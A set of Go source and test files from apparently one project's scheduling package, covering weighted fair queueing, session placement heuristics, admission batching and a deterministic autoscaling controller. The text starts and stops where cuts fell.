	var floor vclock.Duration
	for tenant := range active {
		f := q.finish[slotTenant{slot: slot, tenant: tenant}]
		if first || f < floor {
			floor = f
			first = false
		}
	}
	capQ := q.LeadCap
	if capQ <= 0 {
		capQ = defaultLeadCap
	}
	lead := q.quantum() * vclock.Duration(capQ)
	for tenant := range active {
		key := slotTenant{slot: slot, tenant: tenant}
		if q.finish[key] > floor+lead {
			q.finish[key] = floor + lead
		}
	}
}

// Reset clears all finish-clock state (between independent runs sharing
// one policy value).
func (q *WFQ) Reset() {
	q.mu.Lock()
	defer q.mu.Unlock()
	q.finish = nil
}
