package sched

import "freepart.dev/freepart/internal/core"

// Placer is the pluggable session-placement cost model. Place picks the
// shard a new session opens on; MigrateTarget picks where an existing
// session lands when the controller moves it (rebalance or shrink —
// `from` is the shard it is leaving, or -1 when that shard is already out
// of the pool). Both must be pure functions of their arguments so
// placement decisions replay deterministically; return any out-of-range
// shard id to decline (the caller falls back to least-loaded).
type Placer interface {
	Place(session int, pool []core.PlacementInfo) int
	MigrateTarget(session, from int, pool []core.PlacementInfo) int
}

// RoundRobin places session i on pool slot i mod len(pool) — exactly the
// executor's built-in default, exported so a controller configured with an
// explicit placer can still reproduce the fixed-pool layer bit-for-bit.
type RoundRobin struct{}

// Place implements Placer.
func (RoundRobin) Place(session int, pool []core.PlacementInfo) int {
	if len(pool) == 0 {
		return -1
	}
	return pool[session%len(pool)].ID
}

// MigrateTarget implements Placer: least-loaded, skipping the source.
func (RoundRobin) MigrateTarget(session, from int, pool []core.PlacementInfo) int {
	return LeastLoaded{}.MigrateTarget(session, from, pool)
}

// LeastLoaded places on the shard with the fewest pinned sessions, lowest
// slot id breaking ties — the greedy balance heuristic.
type LeastLoaded struct{}

// Place implements Placer.
func (LeastLoaded) Place(session int, pool []core.PlacementInfo) int {
	return pickLeast(pool, -1)
}

// MigrateTarget implements Placer.
func (LeastLoaded) MigrateTarget(session, from int, pool []core.PlacementInfo) int {
	return pickLeast(pool, from)
}

// pickLeast returns the least-populated shard, excluding one slot.
func pickLeast(pool []core.PlacementInfo, exclude int) int {
	best := -1
	for _, p := range pool {
		if p.ID == exclude {
			continue
		}
		if best < 0 {
			best = p.ID
			continue
		}
		var cur core.PlacementInfo
		for _, q := range pool {
			if q.ID == best {
				cur = q
				break
			}
		}
		if p.Sessions < cur.Sessions || (p.Sessions == cur.Sessions && p.ID < cur.ID) {
			best = p.ID
		}
	}
	return best
}

// TenantSpread is the multi-tenant placer: it spreads each tenant's
// sessions across shards — fewest sessions of the opening session's tenant
// first, fewest total sessions second, lowest slot id last — so one
// tenant's burst never concentrates on a single shard where it would
// monopolize that shard's bounded admission queue. For single-tenant pools
// the first criterion ties everywhere and the placement degenerates to
// LeastLoaded.
type TenantSpread struct{}

// Place implements Placer.
func (TenantSpread) Place(session int, pool []core.PlacementInfo) int {
	return pickSpread(pool, -1)
}

// MigrateTarget implements Placer.
func (TenantSpread) MigrateTarget(session, from int, pool []core.PlacementInfo) int {
	return pickSpread(pool, from)
}

// pickSpread scores the pool by (tenant sessions, total sessions, id).
func pickSpread(pool []core.PlacementInfo, exclude int) int {
	best := -1
	var bestInfo core.PlacementInfo
	for _, p := range pool {
		if p.ID == exclude {
			continue
		}
		if best < 0 ||
			p.TenantSessions < bestInfo.TenantSessions ||
			(p.TenantSessions == bestInfo.TenantSessions && p.Sessions < bestInfo.Sessions) ||
			(p.TenantSessions == bestInfo.TenantSessions && p.Sessions == bestInfo.Sessions && p.ID < bestInfo.ID) {
			best, bestInfo = p.ID, p
		}
	}
	return best
}

// Topology maps shard slots onto simulated sockets: shard id / ShardsPerSocket
// is the socket. Shards are numbered densely, so growth fills one socket
// before spilling to the next — the same layout a NUMA-aware deployment
// would pin processes in.
type Topology struct {
	// ShardsPerSocket is how many shards share one socket's local memory.
	ShardsPerSocket int
}

// Socket returns the socket homing shard id.
func (t Topology) Socket(id int) int {
	if t.ShardsPerSocket <= 0 {
		return 0
	}
	return id / t.ShardsPerSocket
}

// Locality is the NUMA-aware placer: it keeps each session's state on its
// home socket (session id hashed across sockets) as long as the local
// shards are not overloaded, spilling cross-socket only when every local
// shard already carries SpillThreshold more sessions than the best remote
// candidate would. Cross-socket migrations then pay
// CostModel.CrossSocketCost on the destination clock, so the placement
// trade — locality versus balance — shows up in the latency tables.
type Locality struct {
	Topo Topology
	// SpillThreshold is how many extra sessions a home-socket shard may
	// hold before a remote shard wins (default 2 when zero).
	SpillThreshold int
}

// Socket exposes the topology mapping (the controller uses it to price
// cross-socket moves).
func (l Locality) Socket(id int) int { return l.Topo.Socket(id) }

// spill returns the effective spill threshold.
func (l Locality) spill() int {
	if l.SpillThreshold <= 0 {
		return 2
	}
	return l.SpillThreshold
}

// home returns the session's home socket given the sockets present in the
// pool.
func (l Locality) home(session int, pool []core.PlacementInfo) int {
	sockets := 0
	for _, p := range pool {
		if s := l.Topo.Socket(p.ID); s+1 > sockets {
			sockets = s + 1
		}
	}
	if sockets <= 1 {
		return 0
	}
	return session % sockets
}

// choose scores the pool: fewest sessions wins, but off-home shards are
// handicapped by the spill threshold. Ties break by lowest socket id first,
// then lowest slot id — explicitly, so equal-scoring candidates on
// different sockets resolve the same way regardless of how the pool
// snapshot happens to be ordered, and placers composing on top of Locality
// (PartitionAware) inherit a deterministic fallback.
func (l Locality) choose(session int, pool []core.PlacementInfo, exclude int) int {
	home := l.home(session, pool)
	best, bestScore := -1, 0
	for _, p := range pool {
		if p.ID == exclude {
			continue
		}
		score := p.Sessions
		if l.Topo.Socket(p.ID) != home {
			score += l.spill()
		}
		tieWins := best >= 0 && score == bestScore &&
			(l.Topo.Socket(p.ID) < l.Topo.Socket(best) ||
				(l.Topo.Socket(p.ID) == l.Topo.Socket(best) && p.ID < best))
		if best < 0 || score < bestScore || tieWins {
			best, bestScore = p.ID, score
		}
	}
	return best
}

// Place implements Placer.
func (l Locality) Place(session int, pool []core.PlacementInfo) int {
	return l.choose(session, pool, -1)
}

// MigrateTarget implements Placer.
func (l Locality) MigrateTarget(session, from int, pool []core.PlacementInfo) int {
	return l.choose(session, pool, from)
}
