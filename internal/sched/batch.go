package sched

import (
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/vclock"
)

// Batcher is the admission-coalescing policy: consecutive requests whose
// virtual arrivals fall within one flush window are admitted through a
// single worker-pool acquisition (core.Executor.DoBatch), amortizing the
// admission cost the way the paper's lazy data copy amortizes transfer
// cost. Batching changes when admission overhead is paid, never what each
// request computes — per-request arrival stamps and latencies are
// preserved — so batched and unbatched runs produce identical outputs.
type Batcher struct {
	// Size caps requests per batch. <=1 disables coalescing (every request
	// becomes its own batch).
	Size int
	// Deadline is the virtual-time flush window: a batch closes once the
	// next request's arrival is more than Deadline after the batch head's.
	// Requests without an arrival stamp (negative Arrival, closed-loop
	// callers) never coalesce across a stamped boundary.
	Deadline vclock.Duration
}

// Split partitions entries, preserving order, into flushable batches. The
// cut points depend only on the entries' arrival stamps, so splitting is
// deterministic for a deterministic workload.
func (b Batcher) Split(entries []core.BatchEntry) [][]core.BatchEntry {
	if len(entries) == 0 {
		return nil
	}
	if b.Size <= 1 {
		out := make([][]core.BatchEntry, len(entries))
		for i := range entries {
			out[i] = entries[i : i+1]
		}
		return out
	}
	var out [][]core.BatchEntry
	start := 0
	for i := 1; i <= len(entries); i++ {
		if i < len(entries) && !b.cut(entries[start], entries[i], i-start) {
			continue
		}
		out = append(out, entries[start:i])
		start = i
	}
	return out
}

// cut reports whether entry next (width entries after head) starts a new
// batch.
func (b Batcher) cut(head, next core.BatchEntry, width int) bool {
	if width >= b.Size {
		return true
	}
	if head.Arrival < 0 || next.Arrival < 0 {
		// Closed-loop entries carry no arrival stamp; don't guess a window.
		return true
	}
	return next.Arrival-head.Arrival > b.Deadline
}
