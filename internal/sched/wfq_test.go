package sched_test

import (
	"reflect"
	"strings"
	"testing"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
)

// entry builds a wave entry for a tenant (nil session = legacy tenant 0).
func entry(tenant, weight int, arrival vclock.Duration) core.BatchEntry {
	if tenant == 0 && weight == 0 {
		return core.BatchEntry{Arrival: arrival}
	}
	return core.BatchEntry{Session: &core.Session{Tenant: tenant, Weight: weight}, Arrival: arrival}
}

// TestWFQSingleTenantKeepsArrivalOrder pins the zero-cost property WFQ
// needs to be safe as a default: a queue from one tenant is admitted in
// exactly its original order, with or without prior charging.
func TestWFQSingleTenantKeepsArrivalOrder(t *testing.T) {
	q := &sched.WFQ{Quantum: 10}
	entries := []core.BatchEntry{
		entry(0, 0, 5), entry(0, 0, 10), entry(0, 0, 15), entry(0, 0, 20),
	}
	want := []int{0, 1, 2, 3}
	if got := q.Order(0, entries); !reflect.DeepEqual(got, want) {
		t.Fatalf("single-tenant order = %v, want identity", got)
	}
	// Charging the tenant does not change a single-tenant ordering.
	q.Observe(0, entries, make([]error, len(entries)))
	if got := q.Order(0, entries); !reflect.DeepEqual(got, want) {
		t.Fatalf("single-tenant order after charging = %v, want identity", got)
	}
}

// TestWFQFavorsUnderservedTenant pins the fairness mechanism: after one
// tenant consumed a wave of service, the other tenant's requests sort
// ahead of it at equal arrivals.
func TestWFQFavorsUnderservedTenant(t *testing.T) {
	q := &sched.WFQ{Quantum: 10}
	heavyWave := []core.BatchEntry{
		entry(1, 1, 0), entry(1, 1, 0), entry(1, 1, 0), entry(1, 1, 0),
	}
	q.Observe(0, heavyWave, make([]error, len(heavyWave)))

	mixed := []core.BatchEntry{
		entry(1, 1, 0), entry(1, 1, 0), entry(2, 1, 0),
	}
	got := q.Order(0, mixed)
	if got[0] != 2 {
		t.Fatalf("order = %v, want the underserved tenant's entry (index 2) first", got)
	}
	// State is per shard slot: on a fresh slot there is no history, so the
	// same queue interleaves the tenants round-robin within the wave
	// instead of favoring either — the heavy tenant's first entry leads
	// again.
	if got := q.Order(1, mixed); !reflect.DeepEqual(got, []int{0, 2, 1}) {
		t.Fatalf("fresh slot order = %v, want [0 2 1] (within-wave interleave, no history)", got)
	}
}

// TestWFQWeightsScaleTheCharge pins weighted sharing: at weight 2 a tenant
// is charged half a quantum per served request, so after equal service its
// requests still sort ahead of an equal-arrival weight-1 tenant's.
func TestWFQWeightsScaleTheCharge(t *testing.T) {
	q := &sched.WFQ{Quantum: 10}
	wave := []core.BatchEntry{
		entry(1, 1, 0), entry(1, 1, 0), entry(2, 2, 0), entry(2, 2, 0),
	}
	q.Observe(0, wave, make([]error, len(wave)))
	// Clocks now: tenant 1 at 20, tenant 2 at 10.
	got := q.Order(0, []core.BatchEntry{entry(1, 1, 0), entry(2, 2, 0)})
	if got[0] != 1 {
		t.Fatalf("order = %v, want the weight-2 tenant first", got)
	}
}

// TestWFQChargesServiceNotDemand pins the start-time-fair-queueing choice:
// shed requests consumed no capacity, so they advance no clock — a tenant
// whose whole wave was rejected is not pushed behind the tenant that was
// actually served.
func TestWFQChargesServiceNotDemand(t *testing.T) {
	q := &sched.WFQ{Quantum: 10}
	wave := []core.BatchEntry{entry(1, 1, 0), entry(1, 1, 0), entry(2, 1, 0)}
	errs := []error{core.ErrOverloaded, core.ErrOverloaded, nil}
	q.Observe(0, wave, errs)

	// Tenant 1 was offered twice but served nothing; tenant 2 was served
	// once. Tenant 1 must now sort first.
	got := q.Order(0, []core.BatchEntry{entry(2, 1, 0), entry(1, 1, 0)})
	if got[0] != 1 {
		t.Fatalf("order = %v, want the shed (unserved) tenant first", got)
	}
}

// TestWFQLeadCapBoundsHandicap pins the clamp: a tenant's finish clock may
// run at most LeadCap quanta ahead of the slowest active tenant, so a
// service-rich history cannot bank an unbounded penalty.
func TestWFQLeadCapBoundsHandicap(t *testing.T) {
	q := &sched.WFQ{Quantum: 10, LeadCap: 2}
	wave := make([]core.BatchEntry, 0, 11)
	for i := 0; i < 10; i++ {
		wave = append(wave, entry(1, 1, 0))
	}
	wave = append(wave, entry(2, 1, 0))
	q.Observe(0, wave, make([]error, len(wave)))

	// Unclamped, tenant 1's clock would sit at 100 vs tenant 2's 10; the
	// cap pulls it to 30. Provisional keys at arrival 0: t2 runs 20, 30,
	// 40; t1's single entry lands at 40 and the stable sort keeps it ahead
	// of the third t2 entry — with the unbounded handicap it would sort
	// dead last.
	mixed := []core.BatchEntry{entry(1, 1, 0), entry(2, 1, 0), entry(2, 1, 0), entry(2, 1, 0)}
	got := q.Order(0, mixed)
	if !reflect.DeepEqual(got, []int{1, 2, 0, 3}) {
		t.Fatalf("order = %v, want [1 2 0 3] (lead clamped to 2 quanta)", got)
	}
}

// TestTenantSpreadPlace pins the multi-tenant placer: fewest sessions of
// the opening tenant first, total sessions second, slot id last — and the
// source shard excluded from migration targets.
func TestTenantSpreadPlace(t *testing.T) {
	pool := []core.PlacementInfo{
		{ID: 0, Sessions: 3, TenantSessions: 1},
		{ID: 1, Sessions: 1, TenantSessions: 2},
		{ID: 2, Sessions: 2, TenantSessions: 1},
	}
	if got := (sched.TenantSpread{}).Place(9, pool); got != 2 {
		t.Fatalf("placed on %d, want 2 (fewest tenant sessions, then fewest total)", got)
	}
	if got := (sched.TenantSpread{}).MigrateTarget(9, 2, pool); got != 0 {
		t.Fatalf("migrate target = %d, want 0 (source excluded, tenant count wins over total)", got)
	}
	// Single-tenant pools tie on the first criterion and degenerate to
	// least-loaded.
	for i := range pool {
		pool[i].TenantSessions = 0
	}
	if got := (sched.TenantSpread{}).Place(9, pool); got != 1 {
		t.Fatalf("single-tenant placement = %d, want 1 (least loaded)", got)
	}
}

// overloadExecutor builds a direct pool with a reset clock and a tight
// admission bound, so a single same-arrival collision produces a rejection
// the controller will see in its next window.
func overloadExecutor(t *testing.T, shards int) *core.Executor {
	t.Helper()
	ex, err := core.NewExecutor(shards, core.DirectShards(all.Registry()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	for i := 0; i < shards; i++ {
		ex.Shard(i).K.Clock.Reset()
	}
	ex.SetAdmission(core.AdmissionPolicy{QueueLimit: 1})
	return ex
}

// TestControllerGrowsOnRejection pins the first-class overload signal:
// rejections in the window grow the pool even with wait signals calm.
func TestControllerGrowsOnRejection(t *testing.T) {
	ex := overloadExecutor(t, 2)
	ctl := sched.New(ex, sched.Policy{MinShards: 2, MaxShards: 3, GrowOnReject: true}, nil)
	s := ex.Session()
	if err := s.DoAt(0, func(sh *core.Shard) error { sh.K.Clock.Advance(100); return nil }); err != nil {
		t.Fatal(err)
	}
	if err := s.DoAt(0, func(sh *core.Shard) error { return nil }); err == nil {
		t.Fatal("second same-arrival request was not rejected")
	}
	ctl.Tick()
	if got := ex.Shards(); got != 3 {
		t.Fatalf("pool = %d shards after rejection tick, want 3", got)
	}
	log := ctl.EventLog()
	if !strings.Contains(log, "grow") || !strings.Contains(log, "rejected 1") {
		t.Fatalf("decision log does not explain the grow:\n%s", log)
	}
}

// TestControllerShedsAtMaxShards pins the inversion past the ceiling: at
// MaxShards the controller records saturation and keeps shedding instead
// of growing.
func TestControllerShedsAtMaxShards(t *testing.T) {
	ex := overloadExecutor(t, 2)
	ctl := sched.New(ex, sched.Policy{MinShards: 2, MaxShards: 2, GrowOnReject: true}, nil)
	s := ex.Session()
	if err := s.DoAt(0, func(sh *core.Shard) error { sh.K.Clock.Advance(100); return nil }); err != nil {
		t.Fatal(err)
	}
	if err := s.DoAt(0, func(sh *core.Shard) error { return nil }); err == nil {
		t.Fatal("second same-arrival request was not rejected")
	}
	ctl.Tick()
	if got := ex.Shards(); got != 2 {
		t.Fatalf("pool grew past MaxShards: %d", got)
	}
	log := ctl.EventLog()
	if !strings.Contains(log, "saturated") || !strings.Contains(log, "pool 2 at max") {
		t.Fatalf("saturation not recorded:\n%s", log)
	}
}

// TestControllerGrowsOnTenantSkew pins the fairness signal: when one
// tenant's window mean wait dominates another's past the ratio, the pool
// grows and the log names the skew.
func TestControllerGrowsOnTenantSkew(t *testing.T) {
	ex, err := core.NewExecutor(2, core.DirectShards(all.Registry()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	for i := 0; i < 2; i++ {
		ex.Shard(i).K.Clock.Reset()
	}
	ctl := sched.New(ex, sched.Policy{MinShards: 2, MaxShards: 3, TenantSkewRatio: 2}, nil)
	s1 := ex.SessionFor(1, 1)
	s2 := ex.SessionFor(2, 1)

	// Tenant 1 on its shard: waits 0 then 10 (mean 5). Tenant 2 on its own
	// shard: waits 0 then 50 (mean 25). Skew 5.0 >= 2.
	if err := s1.DoAt(0, func(sh *core.Shard) error { sh.K.Clock.Advance(100); return nil }); err != nil {
		t.Fatal(err)
	}
	if err := s1.DoAt(90, func(sh *core.Shard) error { return nil }); err != nil {
		t.Fatal(err)
	}
	if err := s2.DoAt(0, func(sh *core.Shard) error { sh.K.Clock.Advance(100); return nil }); err != nil {
		t.Fatal(err)
	}
	if err := s2.DoAt(50, func(sh *core.Shard) error { return nil }); err != nil {
		t.Fatal(err)
	}
	ctl.Tick()
	if got := ex.Shards(); got != 3 {
		t.Fatalf("pool = %d shards after skew tick, want 3", got)
	}
	log := ctl.EventLog()
	if !strings.Contains(log, "tenant-skew 5.00") {
		t.Fatalf("decision log does not name the skew:\n%s", log)
	}
}
