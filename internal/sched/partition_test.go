package sched_test

import (
	"testing"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/partition"
	"freepart.dev/freepart/internal/sched"
)

func TestPartitionAwareZeroValueDeclines(t *testing.T) {
	var pa sched.PartitionAware
	pool := []core.PlacementInfo{{ID: 0}, {ID: 1}}
	if got := pa.Place(0, pool); got != -1 {
		t.Fatalf("zero-value Place = %d, want -1 (decline)", got)
	}
	if got := pa.PlaceKeyed(0, 42, pool); got != -1 {
		t.Fatalf("zero-value PlaceKeyed = %d, want -1 (decline)", got)
	}
	if got := pa.MigrateTarget(0, 0, pool); got != -1 {
		t.Fatalf("zero-value MigrateTarget = %d, want -1 (decline)", got)
	}
}

func TestPartitionAwareWarmShardWins(t *testing.T) {
	mem := partition.NewMemory()
	mem.Touch(42, 3, 0, 0) // key 42 last ran on slot 3 gen 0
	pa := sched.PartitionAware{Memory: mem, Topo: sched.Topology{ShardsPerSocket: 2}}
	pool := []core.PlacementInfo{
		{ID: 0, Sessions: 0}, {ID: 1, Sessions: 0},
		{ID: 2, Sessions: 0}, {ID: 3, Sessions: 2},
	}
	if got := pa.PlaceKeyed(9, 42, pool); got != 3 {
		t.Fatalf("warm shard lost: placed on %d, want 3", got)
	}
	// A replaced incarnation is cold: same slot, new gen → fall through.
	pool[3].Gen = 1
	if got := pa.PlaceKeyed(9, 42, pool); got == 3 {
		t.Fatal("placed on a replaced shard as if its cache survived")
	}
	// An overloaded warm shard loses to balance.
	pool[3].Gen = 0
	pool[3].Sessions = 10
	if got := pa.PlaceKeyed(9, 42, pool); got == 3 {
		t.Fatal("affinity ignored the spill guard")
	}
}

func TestPartitionAwarePreferredFallback(t *testing.T) {
	meta := partition.New(partition.Range, 4, 1000)
	meta.Prefer(2, 1) // keys [500,750) → slot 1
	pa := sched.PartitionAware{Meta: meta, Memory: partition.NewMemory(), Topo: sched.Topology{ShardsPerSocket: 2}}
	pool := []core.PlacementInfo{
		{ID: 0, Sessions: 1}, {ID: 1, Sessions: 2}, {ID: 2, Sessions: 1}, {ID: 3, Sessions: 1},
	}
	// No history for the key: the partition preference decides.
	if got := pa.PlaceKeyed(0, 600, pool); got != 1 {
		t.Fatalf("preferred slot lost: placed on %d, want 1", got)
	}
	// A key with no preference falls back to the base placer (Locality).
	if got := pa.PlaceKeyed(0, 100, pool); got == 1 {
		t.Fatal("unpreferred key landed on the preferred slot anyway")
	}
}

func TestPartitionAwareWarmBeatsPreferred(t *testing.T) {
	meta := partition.New(partition.Range, 2, 100)
	meta.Prefer(0, 0)
	mem := partition.NewMemory()
	mem.Touch(10, 1, 0, 0) // history says slot 1, metadata says slot 0
	pa := sched.PartitionAware{Meta: meta, Memory: mem}
	pool := []core.PlacementInfo{{ID: 0}, {ID: 1}}
	if got := pa.PlaceKeyed(0, 10, pool); got != 1 {
		t.Fatalf("placement memory should outrank static preference: got %d, want 1", got)
	}
}

func TestPartitionAwareInstallsKeyedHook(t *testing.T) {
	ex, err := core.NewExecutor(4, core.DirectShards(all.Registry()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	mem := partition.NewMemory()
	mem.Touch(77, 2, 0, 0)
	sched.New(ex, inertPolicy(4), sched.PartitionAware{Memory: mem})
	s := ex.SessionKeyed(0, 1, 77)
	if got := s.Shard().ID; got != 2 {
		t.Fatalf("keyed open landed on shard %d, want warm shard 2", got)
	}
	if key, keyed := ex.SessionKey(s.ID); !keyed || key != 77 {
		t.Fatalf("SessionKey = (%d,%v), want (77,true)", key, keyed)
	}
}
