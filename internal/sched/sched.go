// Package sched is the deterministic autoscaling control plane of the
// serving layer: a reconcile loop over core.Executor that grows and
// shrinks the shard pool from queue-wait signals, proactively rebalances
// sessions off hot shards through the portable checkpoint log, places
// sessions with a pluggable cost model, and coalesces admission batches.
//
// The design rule — inherited from the paper's partitioning argument and
// its successors (ERIM, hardware-capability compartmentalization): policy
// machinery must stay off the data hot path. The controller therefore runs
// only at reconcile points ("ticks") the serving loop invokes at barriers,
// when every in-flight invocation has drained. At a barrier the pool's
// state is a pure function of the work it ran, so every decision — and the
// Event log recording it — is byte-reproducible across runs, chaos
// included, exactly like the failover log one layer down. Between ticks
// the control plane costs the data path nothing: an executor with no
// controller attached behaves bit-identically to the fixed-pool serving
// layer.
package sched

import (
	"fmt"
	"sync"
	"sync/atomic"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/vclock"
)

// Policy configures the reconcile loop. The zero value disables every
// action; DefaultPolicy returns the calibrated serving policy.
type Policy struct {
	// MinShards and MaxShards bound the pool. Shrink never goes below Min,
	// grow never above Max.
	MinShards int
	MaxShards int
	// GrowWait triggers a scale-up: when the pool's mean admission-queue
	// wait over the last window exceeds it, one shard is added.
	GrowWait vclock.Duration
	// ShrinkWait triggers a scale-in: when the pool's mean wait over the
	// last window falls below it, the highest slot is retired. Keep it
	// well under GrowWait — the gap is the hysteresis band that stops the
	// pool oscillating.
	ShrinkWait vclock.Duration
	// TargetSessions is the utilization signal: the session count one
	// shard is sized to carry. The pool grows when live sessions exceed
	// TargetSessions × pool, and shrinks when a one-smaller pool would
	// still have a session of slack. Queue wait is a trailing signal — by
	// the time waits breach GrowWait the tail is already damaged, and a
	// shard boots too slowly to repair it — so utilization is what lets
	// the pool scale ahead of the ramp. 0 disables utilization scaling
	// and leaves the wait thresholds in sole control.
	TargetSessions int
	// Cooldown is the minimum virtual time between scale operations,
	// measured on the run's critical path.
	Cooldown vclock.Duration
	// RebalanceRatio moves sessions off a hot shard before the health
	// tracker would ever see it: when one shard's window mean wait exceeds
	// RebalanceRatio times the pool mean (and the pool is not mid-scale),
	// its oldest sessions migrate to the placer's choice of cold shard.
	// 0 disables proactive rebalancing.
	RebalanceRatio float64
	// MaxMovesPerTick caps rebalance migrations per reconcile (default 1
	// when RebalanceRatio is set) so the controller converges gently.
	MaxMovesPerTick int
	// GrowOnReject makes window rejections a first-class grow signal: when
	// the pool shed or rejected any arrivals since the last tick and slots
	// remain below MaxShards, the pool grows even if the wait signals are
	// calm — capacity beats shedding whenever capacity exists. At
	// MaxShards the signal inverts: the controller records the saturation
	// and lets the admission bound keep shedding, which is the designed
	// behaviour past the provisioning ceiling. Off by default; legacy runs
	// never reject, so the flag is inert without an admission policy.
	GrowOnReject bool
	// TenantSkewRatio watches per-tenant admission-wait fairness: when the
	// slowest tenant's window mean wait exceeds this ratio times the
	// fastest's (two or more tenants sampled), the skew counts as a grow
	// signal and is recorded in the event log. 0 disables the signal.
	TenantSkewRatio float64
	// ReadyWindow is the readiness probe: a shard whose clock runs more
	// than this ahead of the pool's serving frontier (the last reconcile's
	// "now") is still booting and is excluded from placement and migration
	// targets until it catches up. Anything routed to a not-yet-ready
	// shard would eat the remaining boot lag as queue wait, so keep the
	// window well under a shard boot; it only bounds the small early-
	// admission penalty paid when a target is let in slightly before its
	// clock crosses the frontier. 0 disables the filter.
	ReadyWindow vclock.Duration
	// Batch is the admission-coalescing policy handed to serving loops.
	Batch Batcher
	// Cost prices cross-socket moves; zero value means no NUMA penalty.
	Cost vclock.CostModel
}

// DefaultPolicy returns the calibrated control policy for a pool bounded
// by [min, max]. The wait thresholds sit either side of one IPC round
// trip's worth of queueing; the cooldown spans a few serving waves.
func DefaultPolicy(min, max int) Policy {
	return Policy{
		MinShards:       min,
		MaxShards:       max,
		GrowWait:        8000,   // 8µs mean wait: requests are stacking up
		ShrinkWait:      1000,   // 1µs: the pool is coasting
		TargetSessions:  2,      // size for two clients per shard
		Cooldown:        150000, // 150µs between scale ops
		RebalanceRatio:  3,
		MaxMovesPerTick: 2,
		ReadyWindow:     40000, // 40µs: above inter-shard skew, far below a boot
		Batch:           Batcher{Size: 4, Deadline: 200000},
		Cost:            vclock.Default(),
	}
}

// Event is one control-plane decision in the replayable log. Events are
// appended only at reconcile points, so for a fixed workload and seed the
// log is byte-equal across runs — the scaling analogue of the failover
// event log.
type Event struct {
	// Tick is the reconcile round the decision was made in.
	Tick int
	// At is the virtual time of the decision (the run's critical path at
	// the barrier).
	At vclock.Duration
	// Kind is "grow", "shrink", "rebalance", or "compact".
	Kind string
	// Detail carries the signal that justified the action.
	Detail string
}

// String renders the event as one log line.
func (ev Event) String() string {
	return fmt.Sprintf("tick %d @%v %s %s", ev.Tick, ev.At, ev.Kind, ev.Detail)
}

// Controller is the reconcile loop. Construct with New, then call Tick at
// serving barriers; every decision lands in the Event log and is executed
// through the executor's scale/migrate hooks.
type Controller struct {
	ex     *core.Executor
	pol    Policy
	placer Placer

	// lastNow is the serving frontier of the most recent tick, readable
	// without c.mu because the placement hook runs inside the executor's
	// admission path (its own locks held), never under the controller's.
	lastNow atomic.Int64

	mu         sync.Mutex
	tick       int
	lastScale  vclock.Duration
	scaledOnce bool
	prev       map[int]core.ShardLoad
	prevTen    map[int]core.TenantLoad
	events     []Event
	peak       int
	// boot is the measured boot cost of the last grown shard (its clock
	// minus the decision time) — the controller's own calibration of how
	// far ahead it must scale.
	boot vclock.Duration
	// hist is the recent (frontier, live sessions) trajectory, trimmed to
	// one boot's worth, from which the ramp rate is estimated.
	hist []histPoint
}

// histPoint is one tick's (frontier, live sessions) observation.
type histPoint struct {
	at       vclock.Duration
	sessions int
}

// New builds a controller over ex and takes over session placement: opens
// route through placer (LeastLoaded when nil), always restricted to shards
// that pass the readiness filter. Executors with no controller attached
// keep the round-robin default and are untouched by any of this — the
// zero-cost-when-off property the serving benchmarks pin down.
func New(ex *core.Executor, pol Policy, placer Placer) *Controller {
	if pol.MaxMovesPerTick <= 0 {
		pol.MaxMovesPerTick = 1
	}
	c := &Controller{ex: ex, pol: pol, placer: placer, prev: make(map[int]core.ShardLoad), peak: ex.Shards()}
	p := placer
	if p == nil {
		p = LeastLoaded{}
	}
	ex.SetPlacement(func(session int, pool []core.PlacementInfo) int {
		return p.Place(session, c.readyPool(pool))
	})
	if kp, ok := p.(KeyedPlacer); ok {
		ex.SetKeyedPlacement(func(session int, key uint64, pool []core.PlacementInfo) int {
			return kp.PlaceKeyed(session, key, c.readyPool(pool))
		})
	}
	return c
}

// readyPool drops shards still booting: any whose clock runs more than
// ReadyWindow ahead of the serving frontier established at the last
// reconcile. A freshly grown shard's clock sits a full boot cost in the
// future, so routing a session there means the session eats that lag as
// queue wait — the filter is the readiness probe a real balancer would
// run. Before the first tick (frontier unknown) and whenever the filter
// would empty the pool, the whole pool passes.
func (c *Controller) readyPool(pool []core.PlacementInfo) []core.PlacementInfo {
	window := c.pol.ReadyWindow
	now := vclock.Duration(c.lastNow.Load())
	if len(pool) <= 1 || window <= 0 || now <= 0 {
		return pool
	}
	out := make([]core.PlacementInfo, 0, len(pool))
	for _, p := range pool {
		if p.Clock <= now+window {
			out = append(out, p)
		}
	}
	if len(out) == 0 {
		return pool
	}
	return out
}

// Batch returns the admission-coalescing policy serving loops should use.
func (c *Controller) Batch() Batcher { return c.pol.Batch }

// Events returns a copy of the decision log.
func (c *Controller) Events() []Event {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]Event, len(c.events))
	copy(out, c.events)
	return out
}

// EventLog renders the decision log one line per event — the byte string
// replay tests compare.
func (c *Controller) EventLog() string {
	var out string
	for _, ev := range c.Events() {
		out += ev.String() + "\n"
	}
	return out
}

// PeakShards reports the largest pool size observed at any reconcile point.
func (c *Controller) PeakShards() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.peak
}

// record appends one decision.
func (c *Controller) record(at vclock.Duration, kind, detail string) {
	c.events = append(c.events, Event{Tick: c.tick, At: at, Kind: kind, Detail: detail})
}

// window is one slot's load delta since the previous tick.
type window struct {
	id       int
	sessions int
	waitSum  vclock.Duration
	waits    uint64
	jobs     uint64
}

// mean returns the window's mean admission wait (0 with no samples).
func (w window) mean() vclock.Duration {
	if w.waits == 0 {
		return 0
	}
	return w.waitSum / vclock.Duration(w.waits)
}

// Tick runs one reconcile round. Call it only at barriers — when no
// invocation is in flight — so the signals it reads, and therefore the
// decision it takes, are deterministic. Priority order: scale beats
// rebalance (a pool changing size this tick should settle before sessions
// shuffle), and every migration wave ends with a checkpoint-log compaction
// so superseded state never accumulates.
func (c *Controller) Tick() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.tick++

	loads := c.ex.ShardLoads()
	wins := make([]window, len(loads))
	var totSum vclock.Duration
	var totN uint64
	prev := c.prev
